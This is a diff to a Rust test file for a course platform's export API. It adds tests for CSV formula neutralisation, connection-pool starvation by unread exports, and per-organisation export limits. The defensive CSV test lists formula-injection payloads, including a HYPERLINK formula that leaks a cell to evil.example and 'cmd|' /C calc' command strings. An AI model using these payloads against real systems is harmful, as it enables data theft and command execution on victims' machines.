@@ -7,12 +7,20 @@ use std::time::Duration;
 use chrono::{DateTime, SecondsFormat, Utc};
 use serde_json::{Map, Value};
 
+use chatcourse_api::{Config, ExportLimits};
+use chatcourse_storage::{Inbound, QuizProgress, TurnPlan};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+
 use super::harness::{Backend, TestApp, assert_error, both_backends};
 
 both_backends!(
     exports_match_transcripts_and_summaries,
     export_date_filters,
     export_errors_and_isolation,
+    csv_neutralises_formulas_and_ndjson_is_verbatim,
+    unread_exports_starve_no_one,
+    exports_are_bounded_per_organisation_and_in_total,
 );
 
 /// The learner's message that CSV must quote: a comma, quotes, a newline.
@@ -30,7 +38,7 @@ const MESSAGE_COLUMNS: [&str; 9] = [
     "program_identifier",
 ];
 
-const SCORE_COLUMNS: [&str; 15] = [
+const SCORE_COLUMNS: [&str; 23] = [
     "session_uuid",
     "customer_uuid",
     "full_name",
@@ -46,6 +54,14 @@ const SCORE_COLUMNS: [&str; 15] = [
     "post_quiz_total",
     "date_enrolled",
     "last_active_date",
+    "pre_quiz_answered",
+    "post_quiz_answered",
+    "language",
+    "current_step",
+    "messages_queued",
+    "messages_sent",
+    "messages_delivered",
+    "messages_failed",
 ];
 
 /// GETs an export with `key`; asserts 200 and a streamed body (chunked,
@@ -163,9 +179,12 @@ fn transcript_item(line: &Map<String, Value>) -> Value {
     Value::Object(item)
 }
 
-/// A JSON value as its CSV field.
+/// A JSON value as its CSV field: a text that a spreadsheet would read
+/// as a formula (it begins with `=`, `+`, `-`, `@`, tab or CR) gets a `'`
+/// in front; numbers are as they are.
 fn csv_field(value: &Value) -> String {
     match value {
+        Value::String(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{s}"),
         Value::String(s) => s.clone(),
         other => other.to_string(),
     }
@@ -324,8 +343,14 @@ async fn exports_match_transcripts_and_summaries(backend: Backend) {
             "post_quiz_score",
             "date_enrolled",
             "last_active_date",
+            "language",
         ] {
             assert_eq!(line[field], summary[field], "{field} of {}", e.session);
+        }
+        assert_eq!(line["language"], "en");
+        // No channel: nothing went through the outbox.
+        for status in ["queued", "sent", "delivered", "failed"] {
+            assert_eq!(line[&format!("messages_{status}")], 0, "{status}");
         }
         for quiz in ["pre", "post"] {
             let score = format!(
@@ -345,6 +370,21 @@ async fn exports_match_transcripts_and_summaries(backend: Backend) {
             ),
             (&"Completed".into(), &"1/2".into(), &"2/2".into()),
             "{line:?}"
+        );
+        // The last step of "Test Module Updated", every question answered.
+        assert_eq!(line["current_step"], "completion", "{line:?}");
+        assert_eq!(
+            (&line["pre_quiz_answered"], &line["post_quiz_answered"]),
+            (&2.into(), &2.into())
+        );
+    }
+    // Learners 2 and 4 (the same module) never replied: at its first step.
+    for pending in [2, 4] {
+        let line = &scores[pending];
+        assert_eq!(line["current_step"], "enrolment", "{line:?}");
+        assert_eq!(
+            (&line["pre_quiz_answered"], &line["post_quiz_answered"]),
+            (&0.into(), &0.into())
         );
     }
     for replied in [1, 3] {
@@ -503,4 +543,328 @@ async fn export_errors_and_isolation(backend: Backend) {
             "{content}"
         );
     }
+}
+
+/// A CSV export read by the csv crate: its header and records.
+async fn csv_crate_records(
+    app: &TestApp,
+    path: &str,
+) -> (csv::StringRecord, Vec<csv::StringRecord>) {
+    let text = fetch(app, path, &app.key, "text/csv; charset=utf-8").await;
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().expect("header").clone();
+    let records = reader.records().map(|r| r.expect("record")).collect();
+    (header, records)
+}
+
+/// Texts a spreadsheet would run as formulas, from a learner's messages and
+/// registration: in CSV each gets a `'` in front (read back with the csv
+/// crate); NDJSON keeps them verbatim.
+async fn csv_neutralises_formulas_and_ndjson_is_verbatim(backend: Backend) {
+    const HOSTILE: [&str; 7] = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "=1,\"2\"\n=3",
+    ];
+    let app = TestApp::spawn(backend).await;
+    let module = app.module_uuid("Test Module Updated").await;
+    let name = "=cmd|' /C calc'!A0";
+    let customer = app
+        .register_customer_by_phone(&app.key, name, "+254711000999")
+        .await["uuid"]
+        .as_str()
+        .expect("uuid")
+        .to_owned();
+    let session = app.enrol(&customer, &module, 49).await;
+    for text in HOSTILE {
+        app.say(&customer, &session, text).await;
+    }
+
+    let (header, records) = csv_crate_records(
+        &app,
+        "/api/v1/fe/program/export/messages?programIdentifier=49&format=csv",
+    )
+    .await;
+    assert_eq!(header.iter().collect::<Vec<_>>(), MESSAGE_COLUMNS);
+    let message_column = header.iter().position(|c| c == "message").expect("message");
+    let messages: Vec<String> = records
+        .iter()
+        .map(|r| r[message_column].to_owned())
+        .collect();
+    for text in HOSTILE {
+        let want = format!("'{text}");
+        assert!(
+            messages.contains(&want),
+            "{text:?} as {want:?} in {messages:?}"
+        );
+        assert!(
+            !messages.iter().any(|m| m == text),
+            "{text:?} verbatim in CSV"
+        );
+    }
+    // No cell of the file starts a formula.
+    for record in &records {
+        for (column, cell) in header.iter().zip(record.iter()) {
+            if column != "id" && column != "program_identifier" {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{column}: {cell:?}"
+                );
+            }
+        }
+    }
+
+    let (header, records) = csv_crate_records(
+        &app,
+        "/api/v1/fe/program/export/scores?programIdentifier=49&format=csv",
+    )
+    .await;
+    let record = &records[0];
+    let cell =
+        |column: &str| record[header.iter().position(|c| c == column).expect(column)].to_owned();
+    assert_eq!(cell("full_name"), format!("'{name}"));
+    assert_eq!(cell("phone"), "'+254711000999", "a phone stays text");
+    let pre_quiz_correct = cell("pre_quiz_correct");
+
+    // NDJSON: verbatim.
+    let lines = ndjson(
+        &app,
+        "/api/v1/fe/program/export/messages?programIdentifier=49",
+    )
+    .await;
+    for text in HOSTILE {
+        assert!(
+            lines.iter().any(|l| l["message"] == text),
+            "{text:?} verbatim in NDJSON"
+        );
+    }
+    let lines = ndjson(
+        &app,
+        "/api/v1/fe/program/export/scores?programIdentifier=49",
+    )
+    .await;
+    assert_eq!(lines[0]["full_name"], name);
+    assert_eq!(lines[0]["phone"], "+254711000999");
+    assert_eq!(
+        pre_quiz_correct,
+        lines[0]["pre_quiz_correct"].to_string(),
+        "numbers stay numbers"
+    );
+}
+
+/// Adds `turns` turns of 100 replies of 2,000 characters each to the
+/// session (straight through the store: the engine is not the point), so
+/// that its messages export is far larger than any socket buffer.
+async fn bulk_messages(app: &TestApp, org: &str, session: &str, turns: usize) {
+    let org = app
+        .store
+        .find_org(org)
+        .await
+        .expect("find org")
+        .expect("the organisation");
+    let session = app
+        .store
+        .get_session(org.id, session.parse().expect("uuid"))
+        .await
+        .expect("get session")
+        .expect("the session");
+    let reply = "x".repeat(2000);
+    for turn in 0..turns {
+        let mut decide = |s: &chatcourse_storage::Session, now: DateTime<Utc>| {
+            Ok(TurnPlan {
+                state: s.state.clone(),
+                state_format: s.state_format,
+                status: s.status,
+                replies: vec![reply.clone(); 100],
+                answers: Vec::new(),
+                progress: QuizProgress::default(),
+                wake_at: s.wake_at,
+                last_activity: Some(now),
+            })
+        };
+        app.store
+            .apply_turn(
+                session.id,
+                Inbound::message(format!("bulk {turn}"), None),
+                &mut decide,
+            )
+            .await
+            .expect("bulk turn");
+    }
+}
+
+/// Opens an export on a socket with a tiny receive buffer and reads only
+/// the status line and headers; the body is never read. Returns the
+/// socket (dropping it is the client going away) and the response head.
+async fn open_unread(app: &TestApp, path: &str, key: &str) -> (TcpStream, String) {
+    let socket = tokio::net::TcpSocket::new_v4().expect("socket");
+    socket.set_recv_buffer_size(4096).expect("SO_RCVBUF");
+    let mut stream = socket.connect(app.addr).await.expect("connect");
+    let request =
+        format!("GET {path} HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {key}\r\n\r\n");
+    stream.write_all(request.as_bytes()).await.expect("send");
+    let mut head = Vec::new();
+    let mut byte = [0u8; 1];
+    while !head.ends_with(b"\r\n\r\n") {
+        let n = tokio::time::timeout(Duration::from_secs(20), stream.read(&mut byte))
+            .await
+            .expect("response head in time")
+            .expect("read");
+        assert_eq!(n, 1, "connection closed before the head: {head:?}");
+        head.push(byte[0]);
+    }
+    (stream, String::from_utf8(head).expect("UTF-8 head"))
+}
+
+/// A server with these export limits, and org-a's programme 49 with a
+/// messages export of about 8 MB ([`BIG_EXPORT`]).
+async fn app_with_a_big_export(backend: Backend, per_org: usize, total: usize) -> TestApp {
+    let config = Config {
+        export_limits: ExportLimits { per_org, total },
+        ..Config::default()
+    };
+    let app = TestApp::spawn_with(backend, config).await;
+    let (_, session) = app.enrolled().await;
+    bulk_messages(&app, "org-a", &session, 40).await;
+    app
+}
+
+const BIG_EXPORT: &str = "/api/v1/fe/program/export/messages?programIdentifier=49";
+
+/// Issue 8: twelve exports opened and never read (more than the pool's
+/// connections) used to hold every pooled connection, so that every other
+/// request and turn failed. Now an export holds a connection only while it
+/// reads a page: other organisations' turns commit and `/readyz` stays
+/// ready; once the clients go away, their slots are free again.
+async fn unread_exports_starve_no_one(backend: Backend) {
+    let app = app_with_a_big_export(backend, 12, 13).await;
+
+    let mut unread = Vec::new();
+    for _ in 0..12 {
+        let (socket, head) = open_unread(&app, BIG_EXPORT, &app.key).await;
+        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+        unread.push(socket);
+    }
+    // Let the exports fill their buffers and block.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+
+    let other = app.new_key("org-b").await;
+    let work = async {
+        let customer = app.register_customer_with(&other, "Other Org").await["uuid"]
+            .as_str()
+            .expect("uuid")
+            .to_owned();
+        let module = app.module_uuid("Test Module Updated").await;
+        let session = app.enrol_with(&other, &customer, &module, 7).await;
+        for reply in ["1", "2", "3"] {
+            let (status, body) = app
+                .post_with(
+                    "/api/v1/message",
+                    &serde_json::json!({"customer_uuid": customer, "session_uuid": session, "message": reply}),
+                    &other,
+                )
+                .await;
+            assert_eq!(status, 200, "another organisation's turn commits: {body}");
+        }
+        let (status, body) = app.get("/readyz").await;
+        assert_eq!(status, 200, "/readyz stays ready: {body}");
+        // The other organisation can export too.
+        let (socket, head) = open_unread(
+            &app,
+            "/api/v1/fe/program/export/scores?programIdentifier=7",
+            &other,
+        )
+        .await;
+        drop(socket);
+        head
+    };
+    let head = tokio::time::timeout(Duration::from_secs(20), work)
+        .await
+        .expect("other organisations are served in time, not after a pool timeout");
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+
+    // The clients go away: their exports end and their slots are free.
+    drop(unread);
+    wait_for_export(&app, BIG_EXPORT, &app.key, 12).await;
+}
+
+/// Opens `count` unread exports once the earlier ones are released
+/// (their bodies end after their clients went away); panics after 10 s.
+async fn wait_for_export(app: &TestApp, path: &str, key: &str, count: usize) {
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
+    let mut open = Vec::new();
+    while open.len() < count {
+        let (socket, head) = open_unread(app, path, key).await;
+        if head.starts_with("HTTP/1.1 200") {
+            open.push(socket);
+        } else {
+            assert!(head.starts_with("HTTP/1.1 429"), "{head}");
+            assert!(
+                tokio::time::Instant::now() < deadline,
+                "slots not released: {head}"
+            );
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+    }
+}
+
+/// Beyond the organisation's or the server's number of running exports:
+/// `429 too_many_exports`, with `Retry-After` and the envelope.
+async fn exports_are_bounded_per_organisation_and_in_total(backend: Backend) {
+    let app = app_with_a_big_export(backend, 2, 3).await;
+    let b = app.new_key("org-b").await;
+    let c = app.new_key("org-c").await;
+    for key in [&b, &c] {
+        let customer = app.register_customer_with(key, "Someone").await["uuid"]
+            .as_str()
+            .expect("uuid")
+            .to_owned();
+        let module = app.module_uuid("Test Module Updated").await;
+        let session = app.enrol_with(key, &customer, &module, 49).await;
+        if key == &b {
+            bulk_messages(&app, "org-b", &session, 40).await;
+        }
+    }
+
+    let (a1, head) = open_unread(&app, BIG_EXPORT, &app.key).await;
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    let (_a2, head) = open_unread(&app, BIG_EXPORT, &app.key).await;
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    // A third of org-a's: over its own limit.
+    let response = app
+        .client
+        .get(app.url(BIG_EXPORT))
+        .bearer_auth(&app.key)
+        .send()
+        .await
+        .expect("request");
+    assert_eq!(response.headers()["retry-after"], "10");
+    let status = response.status().as_u16();
+    let body: Value = response.json().await.expect("envelope");
+    assert_error(status, &body, 429, "too_many_exports");
+    // org-b still has room: the third export of the server.
+    let (_b1, head) = open_unread(&app, BIG_EXPORT, &b).await;
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    // org-c has none left: the server's limit.
+    let (status, body) = app
+        .get_with("/api/v1/fe/program/export/scores?programIdentifier=49", &c)
+        .await;
+    assert_error(status, &body, 429, "too_many_exports");
+    // Ordinary requests are not limited.
+    let (status, body) = app.get_with("/api/v1/fe/modules", &c).await;
+    assert_eq!(status, 200, "{body}");
+
+    // One of org-a's clients goes away: org-c gets its export.
+    drop(a1);
+    wait_for_export(
+        &app,
+        "/api/v1/fe/program/export/scores?programIdentifier=49",
+        &c,
+        1,
+    )
+    .await;
 }
